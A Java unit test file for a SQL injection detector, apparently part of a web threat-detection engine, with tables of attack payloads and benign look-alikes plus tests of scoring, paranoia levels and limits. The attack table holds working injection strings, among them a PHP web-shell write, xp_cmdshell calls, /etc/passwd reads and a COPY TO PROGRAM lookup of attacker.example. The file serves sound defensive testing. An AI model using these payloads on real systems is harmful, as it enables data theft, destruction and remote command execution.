package ai.traceable.tme.engine.detect.sqli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ai.traceable.tme.engine.detect.AttackClass;
import ai.traceable.tme.engine.detect.DetectionRule;
import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.detect.Severity;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.provider.Arguments;

class SqliDetectorTest extends DetectorTableTest {
  private static final SqliDetector DETECTOR = new SqliDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  /** Table values are SQL as it reaches the detector, already decoded. */
  @Override
  protected Inspected value(Placement placement, String name, String raw) {
    return new Inspected(placement, name, raw, raw);
  }

  private static Arguments a(String raw, String rule) {
    return a(Placement.QUERY, raw, rule);
  }

  private static Arguments w(String raw, String rule) {
    return w(Placement.QUERY, raw, rule);
  }

  private static Arguments b(String raw) {
    return b(Placement.QUERY, raw);
  }

  /** Rule id to snippet, for every rule the detector reported. */
  private static Map<String, String> hits(String value) {
    Map<String, String> out = new LinkedHashMap<>();
    DETECTOR.inspect(value, (rule, snippet) -> out.put(rule.id(), snippet));
    return out;
  }

  /** The anomaly score at a paranoia level, as the engine would add it up. */
  private static int score(String value, int paranoia) {
    int[] score = {0};
    DETECTOR.inspect(
        value,
        (rule, snippet) -> {
          if (rule.paranoia() <= paranoia) {
            score[0] += rule.severity().score();
          }
        });
    return score[0];
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        // rules the sections below do not name, and the weaker signals
        a("1 UNION SELECT 1,2--", "sqli-100"),
        // words before the UNION, but something that ends a literal or a statement too
        a("some harmless words here' UNION SELECT password FROM users-- ", "sqli-100"),
        a("search for these words) UNION SELECT 1,2,3-- ", "sqli-100"),
        a("four words before it/**/UNION/**/SELECT 1,2", "sqli-100"),
        a("name FROM users UNION SELECT password FROM admins", "sqli-100"),
        a("1 AND (SELECT 1 FROM users)", "sqli-101"),
        a("name=x' and 1=1 and 'a'='a", "sqli-111"),
        a("(CASE WHEN 1=1 THEN 1 ELSE 0 END)", "sqli-112"),
        a("1; DROP TABLE users", "sqli-120"),
        a("admin'--", "sqli-130"),
        a("1 AND SLEEP(5)", "sqli-140"),
        a("1 AND extractvalue(1,concat(0x7e,version()))", "sqli-141"),
        a("1 INTO OUTFILE '/tmp/x'", "sqli-150"),
        a("1 ORDER BY 3--", "sqli-160"),
        w("1 ORDER BY 3", "sqli-161"),
        a("1 union select char(97,100,109)", "sqli-170"),
        a("1 UNION SELECT 1 FROM information_schema.tables", "sqli-180"),
        w("SELECT * FROM users WHERE id = ?", "sqli-190"),
        w("CREATE INDEX i ON t (c);\nDROP TABLE t", "sqli-191"),
        w("x' or username like y", "sqli-192"),
        w("we sleep(8) hours", "sqli-193"),
        w("1 --", "sqli-194"),
        // classic tautologies, all quoting styles
        a("1' OR '1'='1", "sqli-110"),
        a("' OR 1=1--", "sqli-110"),
        a("' or ''='", "sqli-110"),
        a("\" or \"\"=\"", "sqli-110"),
        a("admin' or '1'='1'/*", "sqli-110"),
        a("admin') or ('1'='1'--", "sqli-110"),
        a("admin\")) or ((\"1\"=\"1", "sqli-110"),
        a("x'OR'1'='1", "sqli-110"),
        a("1 OR 1=1", "sqli-110"),
        a("1' oR 'a'='a", "sqli-110"),
        a("12345' OR 'x'='x", "sqli-110"),
        a("acme' OR '1'='1", "sqli-110"),
        a("admin' or 1 like 1", "sqli-110"),
        a("' || '1'='1", "sqli-110"),
        a("1' && '1'='1", "sqli-110"),
        a("' OR TRUE--", "sqli-110"),
        a("1 OR NOT FALSE", "sqli-110"),
        a("' or 1 in (1)--", "sqli-110"),
        a("' or 1 between 0 and 2--", "sqli-110"),
        a("' OR username IS NOT NULL OR username = '", "sqli-110"),
        a("x' AND email IS NULL; --", "sqli-110"),
        a("3) OR (1=1", "sqli-110"),
        a("')) or (('1'='1", "sqli-110"),
        a("1 or (1)=(1)", "sqli-110"),
        a("%' OR 1=1#", "sqli-110"),
        a("0x61646d696e' OR 1=1#", "sqli-110"),
        a("1' AND username=0x61646d696e-- -", "sqli-110"),
        a("' OR name=CHAR(97,100,109)#", "sqli-110"),
        // blind boolean
        a("1 AND 5524=5524", "sqli-110"),
        a("1' AND 3421=8564-- -", "sqli-110"),
        a("1) AND 3421=3421 AND (7890=7890", "sqli-110"),
        a("1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "sqli-110"),
        a("1 AND LENGTH(database())=8", "sqli-110"),
        a("' AND EXISTS(SELECT * FROM users)--", "sqli-110"),
        a("1' AND (SELECT COUNT(*) FROM sysobjects)>0--", "sqli-110"),
        a("' || (SELECT 'a' FROM dual) || '", "sqli-110"),
        a("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "sqli-110"),
        // union based
        a("1 UNION SELECT username,password FROM users--", "sqli-100"),
        a(
            "' UNION ALL SELECT NULL,NULL,NULL,table_name FROM information_schema.tables-- -",
            "sqli-100"),
        a("-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -", "sqli-100"),
        a("1 union select char(117,115,101,114),0x61646d696e", "sqli-100"),
        a(
            "1 and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables",
            "sqli-100"),
        a("1 UnIoN SeLeCt 1,2,3 -- ", "sqli-100"),
        a("1 UNION(SELECT 1,2)", "sqli-100"),
        a("1 UNION DISTINCT SELECT 1,2", "sqli-100"),
        a("1.0union select 1,2", "sqli-100"),
        a("' UNION SELECT banner,NULL FROM v$version--", "sqli-100"),
        a("' UNION SELECT sql FROM sqlite_master--", "sqli-100"),
        a("') UNION SELECT password FROM users--", "sqli-100"),
        a("https://shop.example.com/search?q=1' UNION SELECT 1,2--", "sqli-100"),
        // comment and whitespace evasions
        a("1 UN/**/ION SEL/**/ECT 1,2,3--", "sqli-100"),
        a("-1 /*!50000union*/ /*!50000select*/ 1,@@version,3", "sqli-100"),
        a("1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL", "sqli-100"),
        a("admin'/**/or/**/1=1#", "sqli-110"),
        a("1'/**/aNd/**/0x31=0x31/**/--", "sqli-110"),
        a("1\tor\t1=1", "sqli-110"),
        a("2\nunion\nselect\nuser(),2", "sqli-100"),
        a("1\u000bUNION\u000bSELECT 1,2", "sqli-100"),
        a("1\ufffdunion\ufffdselect\ufffdpassword\ufffdfrom\ufffdusers", "sqli-100"),
        // comment break-outs
        a("admin'--", "sqli-130"),
        a("admin' --", "sqli-130"),
        a("admin'#", "sqli-130"),
        a("admin'-- -", "sqli-130"),
        a("') /*", "sqli-130"),
        a("admin\")--", "sqli-130"),
        // stacked queries
        a("1; DROP TABLE users--", "sqli-120"),
        a("1);INSERT INTO admins(user,pass) VALUES('x','y')--", "sqli-120"),
        a("id;DROP TABLE reports--", "sqli-120"),
        a("1'; UPDATE users SET password='x' WHERE username='admin'--", "sqli-120"),
        a("1'; DELETE FROM users--", "sqli-120"),
        a("1'; TRUNCATE TABLE logs--", "sqli-120"),
        a("'; DECLARE @q VARCHAR(99);SET @q='x'; EXEC master.dbo.xp_dirtree @q;--", "sqli-120"),
        a("1'; SHUTDOWN WITH NOWAIT;--", "sqli-120"),
        a("1;SELECT pg_sleep(5)", "sqli-120"),
        a("'; EXECUTE IMMEDIATE 'DROP TABLE x'--", "sqli-120"),
        // time based
        a("1 AND SLEEP(5)", "sqli-140"),
        a("1' AND SLEEP(5) AND 'kTqP'='kTqP", "sqli-140"),
        a("1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "sqli-140"),
        a("1' AND BENCHMARK(5000000,MD5(1))#", "sqli-140"),
        a("1'; WAITFOR DELAY '0:0:5'--", "sqli-140"),
        a("'; WAITFOR TIME '23:59:59'--", "sqli-140"),
        a("1'||pg_sleep(5)--", "sqli-140"),
        a("1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1", "sqli-140"),
        a("1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))", "sqli-140"),
        a("price, (CASE WHEN (SELECT 1)=1 THEN SLEEP(5) ELSE 1 END)", "sqli-140"),
        a("0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", "sqli-140"),
        a("Mozilla/5.0 (X11; Linux x86_64) ' OR SLEEP(5) OR '", "sqli-140"),
        // error based
        a("1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ", "sqli-141"),
        a("1 AND updatexml(1,concat(0x7e,user()),1)", "sqli-141"),
        a("1 AND 1=CONVERT(int,@@version)", "sqli-141"),
        a("a@b.co' AND 1=CONVERT(int,(SELECT @@version))--", "sqli-141"),
        a("1 AND 1=CAST((SELECT current_user) AS int)", "sqli-141"),
        a(
            "' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1))--",
            "sqli-141"),
        a("1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))", "sqli-141"),
        a("1 AND EXP(~(SELECT * FROM (SELECT USER())a))", "sqli-141"),
        a("1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT version()),0x7e),1)", "sqli-141"),
        // file and command access
        a(
            "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/sh.php'-- ",
            "sqli-150"),
        a("' UNION SELECT 1 INTO DUMPFILE '/tmp/x'--", "sqli-150"),
        a("'; EXEC xp_cmdshell('whoami')--", "sqli-150"),
        a("'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "sqli-150"),
        a("'; COPY (SELECT '') TO PROGRAM 'nslookup attacker.example'--", "sqli-150"),
        a("' UNION SELECT pg_read_file('/etc/passwd')--", "sqli-150"),
        // constant conditions in sort parameters
        a("(CASE WHEN 1=1 THEN name ELSE price END)", "sqli-112"),
        a("IF(1=1,name,price)", "sqli-112"),
        a("' or '1", "sqli-110"),
        a("1 and user_name() = 'dbo'", "sqli-110"),
        a("1 AND @@version LIKE '%Ubuntu%'", "sqli-110"),
        a("'; exec('sel'+'ect 1')--", "sqli-120"),
        a(
            "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"*/",
            "sqli-140"),
        a("\\' OR 1=1--", "sqli-110"),
        // column probing
        a("1 ORDER BY 10--", "sqli-160"),
        a("1' ORDER BY 3#", "sqli-160"),
        a("' HAVING 1=1--", "sqli-110"),
        a("' GROUP BY columnnames having 1=1 --", "sqli-110"),
        // values as they arrive in other places
        a("{ user(id: \"1' OR 1=1--\") { id name email } }", "sqli-110"),
        a("<user><id>1' UNION SELECT password FROM users WHERE '1'='1</id></user>", "sqli-100"),
        a("UTC' AND (SELECT 5521 FROM (SELECT(SLEEP(5)))x)-- x", "sqli-110"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        // prose that shows a query: nothing in it can leave a string literal
        b(
            "In SQL you can combine two result sets: SELECT name FROM customers UNION SELECT name"
                + " FROM suppliers, and duplicates are removed"),
        b(
            "The textbook injection simply appends UNION SELECT username, password FROM users to"
                + " the query"),
        b("Use UNION ALL to keep duplicates, e.g. SELECT city FROM a UNION ALL SELECT city FROM b"),
        // names and apostrophes
        b("O'Brien"),
        b("D'Angelo"),
        b("Shaquille O'Neal"),
        b("Jean-Luc D'Artagnan-O'Neil"),
        b("L'Oréal Paris"),
        b("mary.o'brien@example.ie"),
        b("O'Reilly & Associates"),
        b("Máire O'Reilly"),
        // prose with SQL words
        b("select the best option from our union of partners"),
        b("drop me a line"),
        b("delete my account please"),
        b("Delete my account please, and drop any data you have. Where do I select that option?"),
        b("1=1 is always true in math class"),
        b("1=1 is always true in math class, but 1=2 is not."),
        b("Order by date"),
        b("order by price or rating?"),
        b("Tom & Jerry"),
        b("rock 'n' roll"),
        b("it's 5 o'clock"),
        b("It's 5 o'clock somewhere; isn't it?"),
        b("Don't select this; or that"),
        b("Union Pacific vs. BNSF: which railroad to select?"),
        b("Drop Table Tennis Club"),
        b(
            "TODO: update the table of contents; insert new chapter 'From Zero to One' before chapter 3"),
        b("And 1 or 2 of them were late -- not great."),
        b("It's the best pizza I've had; the owner's 'secret sauce' is amazing -- 10/10"),
        b("Which is better: SELECT or INSERT fishing lures?"),
        b("I'd say 2 or 3 items; not more"),
        b("Choose A and (select one from the list)"),
        b("Select all that apply (one or more)"),
        b("union station chicago parking"),
        b("SQL Developer"),
        b("Bobby Tables"),
        b("true or false"),
        b("yes or no"),
        b("What's the or operator in excel"),
        b("Work, eat and sleep (8)"),
        b("I need more sleep (8 hours)"),
        b("The benchmark (2024) results"),
        b("He said 'drop it' and left"),
        b("She said \"delete it\" or 'keep it'"),
        w("Chris' -- not John's", "sqli-131"),
        b("Mom's -- the best!"),
        b("Please select the best option from our union of partners and drop me a line by Friday."),
        // passwords, tokens and ids
        b("p@ss'w0rd\""),
        b("P@$$w0rd!<>'\";--"),
        b("Tr0ub4dor&3"),
        b("C0rrect-Horse!Battery#Staple"),
        b("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.abc"),
        b("7c9e6679-7425-40de-944b-e07fc1f90ae7"),
        b("0x61646d696e"),
        b("def50200a1b2c3d4e5f6a7b8c9d0e1f2"),
        // numbers, dates, phones, money
        b("2024-05-01T10:15:30+02:00"),
        b("(555) 123-4567"),
        b("+1 (415) 555-0199 ext. 42"),
        b("-122.4194"),
        b("$1,250.00"),
        b("10--20 people"),
        b("5 < 10 > 3"),
        b("(2+3)*4"),
        b("x<5 and y>3"),
        b("rating >= 4 and price <= 100"),
        b("Server room temps: rack 1=22°C, rack 2=24°C"),
        // search strings and DSLs
        b("\"new york\" hotels -airbnb"),
        b("\"select the best\" coffee grinder"),
        b("shirt -red +blue \"cotton\" size:(M OR L)"),
        b("status:active AND owner:me"),
        b("\"where\" vs \"were\" grammar"),
        b("c# vs java performance"),
        b("50% off"),
        b("a;b;c"),
        b("red|green|blue"),
        b("include=a;b;c"),
        b("1=1 meaning"),
        // markup, code and config
        b("<p>It's a \"great\" day</p>"),
        b("color: #fff; background: url('img.png');"),
        b("@media (max-width: 600px) { .nav { display: none; } }"),
        b("**bold** and _italic_ -- see [docs](https://x.y/z?a=1&b=2)"),
        b("| Name | Score |\n|------|-------|\n| Bob  | 10    |"),
        b("=IF(A1>0; \"yes\"; \"no\")"),
        b("if a > b then max = a; else max = b"),
        b("x == 1 && y == 2"),
        b("total = sum(prices) + len(items)"),
        b("and len(obj) > max_string"),
        b("Run configure without \"--enable-gss\"."),
        b("gitweb: '--cc' for merges in 'commitdiff' view"),
        b("SELECT * FROM users WHERE id = ?"),
        b("String sql = \"SELECT id, name FROM products WHERE category = ? ORDER BY name\";"),
        b("df = pd.read_sql('SELECT * FROM sales WHERE year = 2024', conn)"),
        b("CREATE INDEX idx ON orders (customer_id);\nALTER TABLE orders ADD COLUMN note text;"),
        b("{\"a\": null, \"b\": true, \"or\": 1}"),
        b("{\"$or\": [{\"a\": 1}, {\"b\": 2}]}"),
        b("https://example.com/search?q=union+select&page=2"),
        b("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
        b("session=9a8b7c6d5e4f; _ga=GA1.1.1234567890.1714567890"),
        b("I'm 5'11\" tall"),
        b("6' 2\" and 180 lbs"),
        b("12\" or 14\""),
        b("the '80s or '90s"),
        b("'80 or '90"),
        b("\"harry potter\" or \"lord of the rings\""),
        b("in case when it rains then we stay home"),
        b("=IF(A1=B1, \"same\", \"different\")"));
  }

  @Test
  void caseListsAreLargeEnough() {
    assertThat(attacks().count()).isGreaterThanOrEqualTo(80);
    assertThat(benign().count()).isGreaterThanOrEqualTo(80);
  }

  @Test
  void documentationSqlIsFlaggedOnlyAtParanoiaTwo() {
    String doc = "SELECT id, name FROM products WHERE category = ? ORDER BY name";
    assertThat(score(doc, 1)).isZero();
    assertThat(score(doc, 2)).isGreaterThan(0);
  }

  @Test
  void snippetPointsAtTheMatch() {
    String value = "x".repeat(100) + " 1 UNION SELECT 1,2";
    String snippet = hits(value).get("sqli-100");
    assertThat(snippet).contains("UNION SELECT").hasSizeLessThanOrEqualTo(64);
  }

  @Test
  void inspectsTheDecodedFormOfAnInspectedValue() {
    List<String> ids = new ArrayList<>();
    Inspected value =
        new Inspected(Placement.QUERY, "id", "1%27%20OR%20%271%27%3D%271", "1' OR '1'='1");
    DETECTOR.inspect(value, (rule, snippet) -> ids.add(rule.id()));
    assertThat(ids).contains("sqli-110");
    assertThat(DETECTOR.attackClass()).isEqualTo(AttackClass.SQLI);
  }

  @Test
  void paranoiaBoundsWhatIsReported() {
    SqliDetector strict = new SqliDetector(1, 64);
    List<DetectionRule> reported = new ArrayList<>();
    strict.inspect("SELECT * FROM users WHERE id = ?", (rule, snippet) -> reported.add(rule));
    assertThat(reported).isEmpty();
    strict.inspect("1 UNION SELECT 1,2", (rule, snippet) -> reported.add(rule));
    assertThat(reported).extracting(DetectionRule::id).containsExactly("sqli-100");
  }

  @Test
  void ruleIdsAreUniqueAndWellFormed() {
    Set<String> ids = new HashSet<>();
    for (DetectionRule rule : DETECTOR.rules()) {
      assertThat(rule.id()).matches("sqli-\\d{3}");
      assertThat(ids.add(rule.id())).as("duplicate %s", rule.id()).isTrue();
      assertThat(rule.attackClass()).isEqualTo(AttackClass.SQLI);
      assertThat(rule.description()).isNotBlank();
      if (rule.paranoia() == 1 && rule.severity() == Severity.NOTICE) {
        throw new AssertionError("notice rules belong to higher paranoia: " + rule.id());
      }
    }
    assertThat(ids).hasSizeLessThanOrEqualTo(64);
  }

  @Test
  void megabyteValuesAreBoundedByTheTokenLimit() {
    for (String unit : new String[] {"'", "(", "/*", "\"", "' OR ", "/*!", "-- \n", "1=1 OR "}) {
      String value = unit.repeat(1_000_000 / unit.length());
      assertThatCode(() -> DETECTOR.inspect(value, (rule, snippet) -> {}))
          .as(unit)
          .doesNotThrowAnyException();
      for (SqlTokenizer.Context context : SqlTokenizer.Context.values()) {
        SqlTokens tokens = SqlTokenizer.tokenize(value, context, SqlTokenizer.DEFAULT_MAX_TOKENS);
        assertThat(tokens.size()).isLessThanOrEqualTo(SqlTokenizer.DEFAULT_MAX_TOKENS);
      }
    }
  }

  @Test
  void valuesWithoutSqlPunctuationOrTriggerWordsAreSkipped() {
    assertThat(SqliDetector.Precheck.scan("hello world 2024")).isZero();
    assertThat(SqliDetector.Precheck.scan("2024-05-01")).isZero();
    assertThat(SqliDetector.Precheck.scan("1 union select 2")).isNotZero();
    assertThat(SqliDetector.Precheck.scan("O'Brien") & SqliDetector.Precheck.SINGLE).isNotZero();
  }

  @Test
  void blockCommentsAreStrippedForTheSecondVariant() {
    assertThat(SqliDetector.stripBlockComments("UN/**/ION SEL/*x*/ECT")).isEqualTo("UNION SELECT");
    assertThat(SqliDetector.stripBlockComments("/*!50000union*/ a")).isEqualTo("union a");
    assertThat(SqliDetector.stripBlockComments("a /* open")).isEqualTo("a ");
  }
}
